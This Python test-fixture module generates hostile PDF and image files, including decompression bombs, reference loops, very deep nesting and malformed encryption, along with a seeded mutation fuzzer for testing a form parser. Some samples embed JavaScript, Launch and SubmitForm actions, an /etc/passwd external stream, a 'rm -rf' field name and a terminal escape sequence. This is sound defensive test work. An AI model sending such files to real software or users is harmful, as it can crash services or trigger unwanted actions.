"""PDFs and pictures made by hand to harm whoever reads them, and random mutations of a good one.

Nothing here comes from a real file: every one is written below, and harmless where it lies.
"""

import random
import re
import struct
import zlib
from collections.abc import Callable, Iterator, Sequence
from io import BytesIO

from pypdf import PdfReader, PdfWriter

_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %b >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_FIELD = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (reponse_nom) /V %b /Rect [0 0 9 9] >>"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (len(objects) + 1, trailer)
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


def fiche(value: bytes = b"(Martin)", field: bytes = b"", catalogue: bytes = b"") -> bytes:
    """One page, one field: what most of the others are made from."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> %b >>" % catalogue,
        _PAGES,
        _PAGE % b"/Annots [4 0 R]",
        field or _FIELD % value,
    )


def _flate(size: int) -> bytes:
    """So many zeros (a whole number of millions), compressed without being made."""
    step = 1_000_000
    machine = zlib.compressobj(9, wbits=-15)
    block = machine.compress(bytes(step)) + machine.flush(zlib.Z_FULL_FLUSH)
    checksum = struct.pack(">I", (size % 65521) << 16 | 1)
    return b"\x78\xda" + block * (size // step) + b"\x03\x00" + checksum


def _bomb() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"/Annots [4 0 R] /Contents 5 0 R",
        _FIELD % b"5 0 R",
        stream(_flate(1_000_000_000), b"/Filter /FlateDecode"),
    )


def _nested_bomb() -> bytes:
    twice = zlib.compress(_flate(2_000_000_000), 9)
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"/Annots [4 0 R] /Contents 5 0 R",
        _FIELD % b"5 0 R",
        stream(twice, b"/Filter [/FlateDecode /FlateDecode]"),
    )


def _object_stream(
    inside: bytes, first: int = 4, entries: bytes = b"/Filter /FlateDecode"
) -> bytes:
    """A PDF whose field is in an object stream, found by a cross-reference stream."""
    head = b"%PDF-1.7\n"
    packed = zlib.compress(b"4 0 " + inside) if entries else b"4 0 " + inside
    parts = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>\nendobj\n",
        b"2 0 obj\n%b\nendobj\n" % _PAGES,
        b"3 0 obj\n%b\nendobj\n" % (_PAGE % b""),
        b"5 0 obj\n%b\nendobj\n"
        % stream(packed, b"/Type /ObjStm /N 1 /First %d %b" % (first, entries)),
    ]
    places, at = [], len(head)
    for part in parts:
        places.append(at)
        at += len(part)
    rows = [(0, 0, 255), *((1, place, 0) for place in places[:3]), (2, 5, 0), (1, places[3], 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in (*rows, (1, at, 0)))
    xref = b"6 0 obj\n%b\nendobj\n" % stream(table, b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R")
    return head + b"".join(parts) + xref + b"startxref\n%d\n%%%%EOF\n" % at


def _xref_loop() -> bytes:
    made = fiche()
    start = made.rindex(b"xref\n0")
    return made.replace(b"/Root 1 0 R", b"/Prev %d /Root 1 0 R" % start)


def _encrypted(password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(fiche())))
    writer.encrypt(password, owner_password="autre mot de passe", algorithm="AES-256")
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def _many_fields(count: int) -> bytes:
    fields = [b"<< /FT /Tx /T (champ%d) /V (x) >>" % number for number in range(count)]
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%b] >> >>" % kids,
        _PAGES,
        _PAGE % b"",
        *fields,
    )


def _wide_tree() -> bytes:
    """Thirty levels, each node naming the next one ten times: 10^30 paths."""
    nodes = [
        b"<< /T (n%d) /Kids [%b] >>" % (level, b" ".join([b"%d 0 R" % (level + 5)] * 10))
        for level in range(30)
    ]
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"",
        *nodes,
        b"<< /FT /Tx /T (fin) /V (x) >>",
    )


def _actions() -> bytes:
    actions = (
        b"/A << /S /JavaScript /JS (app.launchURL\\('http://exemple.invalid'\\)) "
        b"/Next [<< /S /Launch /F (calc.exe) >> << /S /URI /URI (http://exemple.invalid) >>] >> "
        b"/AA << /K << /S /SubmitForm /F (http://exemple.invalid) >> >>"
    )
    return fiche(
        field=(_FIELD % b"(Martin)")[:-3] + actions + b" >>",
        catalogue=b"/OpenAction << /S /GoToR /F (//exemple.invalid/partage) /D [0 /Fit] >> "
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> "
        b"/EmbeddedFiles << /Names [(virus.exe) << /F (virus.exe) /UF (virus.exe) >>] >> >>",
    )


def _external() -> bytes:
    """A value, and a page, said to be in another file."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"/Annots [4 0 R] /Contents 5 0 R",
        _FIELD % b"5 0 R",
        stream(b"", b"/F (/etc/passwd) /FFilter /FlateDecode"),
    )


def _looping_actions() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        _PAGES,
        _PAGE % b"",
        b"<< /S /URI /URI (http://exemple.invalid) /Next 5 0 R >>",
        b"<< /S /URI /URI (http://exemple.invalid) /Next [4 0 R 5 0 R] >>",
    )


def _slow_text() -> bytes:
    """A page whose text takes for ever to read, under a name that asks to read it."""
    content = b"BT /F1 9 Tf " + b"(x) Tj 1 0 0 1 1 1 Tm " * 400_000 + b"ET"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        _PAGES,
        _PAGE % b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>",
        stream(zlib.compress(content, 9), b"/Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


_MADE: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "one byte": lambda: b"%",
    "only a header": lambda: b"%PDF-1.7\n",
    "header and end": lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n",
    "cut in the middle": lambda: fiche()[:300],
    "cut before its end": lambda: fiche()[:-12],
    "not a pdf": lambda: b"PK\x03\x04" + bytes(500),
    "flate bomb": _bomb,
    "nested flate bomb": _nested_bomb,
    "page that is its own kid": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"
    ),
    "pages in a loop": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1 >>",
    ),
    "ten thousand pages": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%b] /Count 10000 >>" % (b"<< /Type /Page >> " * 10_000),
    ),
    "one page ten thousand times": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%b] /Count 10000 >>" % (b"3 0 R " * 10_000),
        _PAGE % b"",
    ),
    "field that is its own kid": lambda: fiche(field=b"<< /T (a) /FT /Tx /Kids [4 0 R] >>"),
    "fields in a loop": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"",
        b"<< /T (a) /Kids [5 0 R] >>",
        b"<< /T (b) /Kids [4 0 R] /Parent 4 0 R >>",
    ),
    "field tree of 10^30 paths": _wide_tree,
    "five thousand fields": lambda: _many_fields(5000),
    "encrypted": lambda: _encrypted("un mot de passe"),
    "encrypted without a password": lambda: _encrypted(""),
    "unknown encryption": lambda: fiche().replace(
        b"/Root 1 0 R", b"/Encrypt << /Filter /Autre /V 99 /R 99 /O 1 /U [] /P (a) >> /Root 1 0 R"
    ),
    "actions of every kind": _actions,
    "actions in a loop": _looping_actions,
    "streams in other files": _external,
    "value of a megabyte": lambda: fiche(b"(%b)" % (b"a" * 1_000_000)),
    "value of a megabyte in UTF-16": lambda: fiche(b"<feff%b>" % (b"00e9" * 500_000)),
    "value with commands": lambda: fiche(b"(\\033]52;c;aGVsbG8=\\007\\233)"),
    "the same field twice": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R 5 0 R] >> >>",
        _PAGES,
        _PAGE % b"",
        _FIELD % b"(Martin)",
        _FIELD % b"(Durand)",
    ),
    "name that is an order": lambda: fiche(
        field=b"<< /FT /Tx /T (../../etc/passwd; rm -rf) /V (x) >>"
    ),
    "deep arrays": lambda: fiche(b"[" * 50_000 + b"]" * 50_000),
    "deep dictionaries": lambda: fiche(b"<< /A " * 20_000 + b"1" + b" >>" * 20_000),
    "arrays never closed": lambda: fiche(b"[" * 50_000),
    "string never closed": lambda: fiche(b"(((((" * 1000),
    "cross-references in a loop": _xref_loop,
    "object that is itself": lambda: fiche(field=b"4 0 R"),
    "objects that are each other": lambda: fiche(field=b"5 0 R") + b"5 0 obj 4 0 R endobj",
    "huge numbers": lambda: fiche(b"9" * 5000).replace(b"/Rect [0 0 9 9]", b"/Ff 1e999 /MaxLen -1"),
    "absurd length": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"/Contents 5 0 R",
        _FIELD % b"5 0 R",
        b"<< /Length 99999999999999 >>\nstream\nabc\nendstream",
    ),
    "negative length": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"/Contents 5 0 R",
        _FIELD % b"5 0 R",
        b"<< /Length -5 >>\nstream\nabc\nendstream",
    ),
    "length that is its own stream": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"/Contents 5 0 R",
        _FIELD % b"5 0 R",
        b"<< /Length 5 0 R >>\nstream\nabc\nendstream",
    ),
    "object stream": lambda: _object_stream(_FIELD % b"(Martin)"),
    "object stream in itself": lambda: _object_stream(b"4 0 R"),
    "object stream with a false start": lambda: _object_stream(_FIELD % b"(M)", first=10**9),
    "object stream without end": lambda: _object_stream(b"<< /T (a", entries=b""),
    "text that never ends": _slow_text,
    "table of two billion objects": lambda: fiche().replace(b"xref\n0 5", b"xref\n0 2000000000"),
    "no catalogue": lambda: fiche().replace(b"/Root 1 0 R", b"/Root 99 0 R"),
    "thousand filters": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        _PAGES,
        _PAGE % b"/Contents 5 0 R",
        _FIELD % b"5 0 R",
        stream(b"00>", b"/Filter [%b]" % (b"/ASCIIHexDecode " * 1000)),
    ),
    **{
        f"wrong type of {key.decode()}: {value.decode()[:12]}": (
            lambda key=key, value=value: re.sub(
                key + rb" (\[[^]]*\]|<<.*?>> >>|\([^)]*\)|/\w+|\d+ 0 R|\d+)",
                lambda _: key + b" " + value,
                fiche(),
                count=1,
            )
        )
        for key in (b"/Pages", b"/AcroForm", b"/Fields", b"/Kids", b"/FT", b"/T", b"/V", b"/Annots")
        for value in (
            b"null",
            b"true",
            b"12",
            b"/Nom",
            b"(texte)",
            b"[4 0 R]",
            b"<< /a 1 >>",
            b"7 0 R",
        )
    },
}
NAMES: Sequence[str] = tuple(_MADE)


def hostile(name: str) -> bytes:
    """The hostile file of that name."""
    return _MADE[name]()


_TOKENS = (
    b"/Kids", b"/V", b"/T", b"/FT", b"/Fields", b"/AcroForm", b"/Pages", b"/Length", b"/Filter",
    b"/Count", b"/Parent", b"/AS", b"obj", b"endobj", b"stream", b"endstream", b"xref", b"<<",
    b">>", b"[", b"]", b"(", b")", b" R", b"null", b"true", b"-1", b"99999999999", b"0 0 R",
    b"1 0 R", b"3 0 R", b"<FEFF", b"\\", b"%", b"\x00", b"\xff\xfe", b"/JavaScript", b"/Encrypt",
)  # fmt: skip


def mutations(good: Sequence[bytes], count: int, seed: int = 3) -> Iterator[bytes]:
    """``count`` files, each made of one of ``good`` by one to eight changes; the same each time."""
    chance = random.Random(seed)  # noqa: S311 - the same files each time
    changes = (_flip, _flip, _byte, _token, _token, _number, _drop, _repeat, _reference, _cut)
    for _ in range(count):
        data = bytearray(chance.choice(good))
        for _ in range(chance.choice((1, 1, 2, 4, 8))):
            if data:
                chance.choice(changes)(data, chance)
        yield bytes(data)


def _flip(data: bytearray, chance: random.Random) -> None:
    data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)


def _byte(data: bytearray, chance: random.Random) -> None:
    data[chance.randrange(len(data))] = chance.randrange(256)


def _token(data: bytearray, chance: random.Random) -> None:
    at, token = chance.randrange(len(data)), chance.choice(_TOKENS)
    data[at : at + (len(token) if chance.random() < 0.5 else 0)] = token


def _number(data: bytearray, chance: random.Random) -> None:
    found = list(re.finditer(rb"\d+", data))
    if found:
        one = chance.choice(found)
        other = chance.choice((b"0", b"-1", b"1", b"65536", b"4294967295", b"9" * 40))
        data[one.start() : one.end()] = other


def _reference(data: bytearray, chance: random.Random) -> None:
    """A reference leads elsewhere: the loops that a flipped bit seldom makes."""
    found = list(re.finditer(rb"(\d+) 0 R", data))
    if found:
        one = chance.choice(found)
        data[one.start(1) : one.end(1)] = chance.choice(found)[1]


def _drop(data: bytearray, chance: random.Random) -> None:
    at = chance.randrange(len(data))
    del data[at : at + chance.randrange(1, 400)]


def _repeat(data: bytearray, chance: random.Random) -> None:
    at = chance.randrange(len(data))
    data[at:at] = data[at : at + chance.randrange(1, 400)]


def _cut(data: bytearray, chance: random.Random) -> None:
    """Cut, with an end put back: what a careful attacker does."""
    del data[chance.randrange(len(data)) :]
    data += b"\nstartxref\n%d\n%%%%EOF\n" % chance.randrange(len(data) + 1)


def png(width: int, height: int, rows: bytes, kind: int = 0) -> bytes:
    """A PNG of these compressed rows; ``kind`` 0 is grey, 2 is colours."""
    head = struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )


PICTURES: dict[str, Callable[[], bytes]] = {
    "png of a gigapixel": lambda: png(40_000, 25_000, _flate(1_000_000_000)),
    "png of 2^31 points a side": lambda: png(2**31 - 1, 2**31 - 1, b""),
    "png without a row": lambda: png(100, 100, b""),
    "png of no size": lambda: png(0, 0, b""),
    "png header alone": lambda: b"\x89PNG\r\n\x1a\n",
    "png cut": lambda: png(500, 500, zlib.compress(bytes(501 * 500)))[:-200],
    "png whose rows are a bomb": lambda: png(10, 10, _flate(1_000_000_000)),
    "jpeg header alone": lambda: b"\xff\xd8\xff\xe0",
    "jpeg of garbage": lambda: b"\xff\xd8\xff" + bytes(range(256)) * 40,
    "jpeg of 65,500 points a side": lambda: (
        b"\xff\xd8\xff\xc0\x00\x0b\x08\xff\xdc\xff\xdc\x01\x01\x11\x00\xff\xd9"
    ),
}


def scan_pdf(
    resources: bytes = b"", content: bytes = b"", more: bytes = b"", *objects: bytes
) -> bytes:
    """A scanned page in a PDF; ``more`` is in the page, ``objects`` are numbered from 5."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>",
        _PAGES,
        _PAGE % (b"/Contents 4 0 R /Resources << %b >> %b" % (resources, more)),
        stream(content),
        *objects,
    )


def _picture(entries: bytes, content: bytes = b"") -> bytes:
    """A scanned page that shows a picture with these entries."""
    image = stream(content, b"/Type /XObject /Subtype /Image " + entries)
    return scan_pdf(b"/XObject << /Im 5 0 R >>", b"q 500 0 0 700 0 0 cm /Im Do Q", b"", image)


_GREY = b"/Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
SCANS: dict[str, Callable[[], bytes]] = {
    "picture of a gigapixel": lambda: _picture(_GREY % (40_000, 25_000)),
    "picture that is a bomb": lambda: _picture(
        _GREY % (10, 10) + b"/Filter /FlateDecode", _flate(1_000_000_000)
    ),
    "picture that is a nested bomb": lambda: _picture(
        _GREY % (10, 10) + b"/Filter [/FlateDecode /FlateDecode]",
        zlib.compress(_flate(2_000_000_000), 9),
    ),
    "content that is a bomb": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        _PAGES,
        _PAGE % b"/Contents 4 0 R",
        stream(_flate(1_000_000_000), b"/Filter /FlateDecode"),
    ),
    "unknown filter": lambda: _picture(_GREY % (10, 10) + b"/Filter /Crypt"),
    "postscript": lambda: scan_pdf(
        b"/XObject << /P 5 0 R >>", b"/P Do", b"", stream(b"quit", b"/Type /XObject /Subtype /PS")
    ),
    "deep resources": lambda: scan_pdf(b"/ExtGState " + b"<< /A " * 3000 + b"1" + b" >>" * 3000),
}
